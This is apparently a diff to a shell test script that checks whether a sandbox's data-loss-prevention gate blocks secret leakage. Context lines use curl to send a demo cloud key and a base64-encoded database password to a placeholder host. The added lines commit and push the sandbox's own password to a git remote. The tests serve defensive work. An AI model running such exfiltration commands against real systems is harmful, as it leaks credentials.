@@ -21,7 +21,8 @@ try whoami    id -un
 try dlp-token curl -sS -m 10 -w ' [HTTP %{http_code}]' -X POST --data "aws_access_key_id=AKIADEMOQ7RXJ2M4KD8W" http://allowed.example/upload
 try dlp-secret curl -sS -m 10 -w ' [HTTP %{http_code}]' "http://allowed.example/search?q=$(printf %s "$DEMO_DB_PASSWORD" | base64 | tr -d '\n')"
 # git through the gate: the real URL goes to the gate in the sidecar, which scans every push.
-# A commit carrying a cloud key must be refused before it reaches the upstream; a clean one lands.
+# A commit carrying a cloud key, or the bottle's own secret, must be refused before it reaches the
+# upstream; a clean one lands.
 cd /home/node || exit 1
 try git-clone git clone -q https://git.example/demo.git demo-repo
 cd demo-repo || exit 1
@@ -29,6 +30,12 @@ printf 'region = eu-west-1\naws_access_key_id = AKIADEMOQ7RXJ2M4KD8W\n' > deploy
 git add deploy.env && git commit -qm "add deploy settings"
 printf 'git-secret-commit\t0\t%s\n' "$(git rev-parse HEAD)"
 try git-push-secret git push origin HEAD:main
+git reset -q --hard origin/main
+# The bottle's own secret in no token format: only the gate's knowledge of its values finds it.
+printf 'db_password = %s\n' "$DEMO_DB_PASSWORD" > db.env
+git add db.env && git commit -qm "add database settings"
+printf 'git-own-secret-commit\t0\t%s\n' "$(git rev-parse HEAD)"
+try git-push-own-secret git push origin HEAD:main
 git reset -q --hard origin/main
 printf '\nEdited inside a bottle.\n' >> README.md
 git commit -qam "README: a note from the bottle"
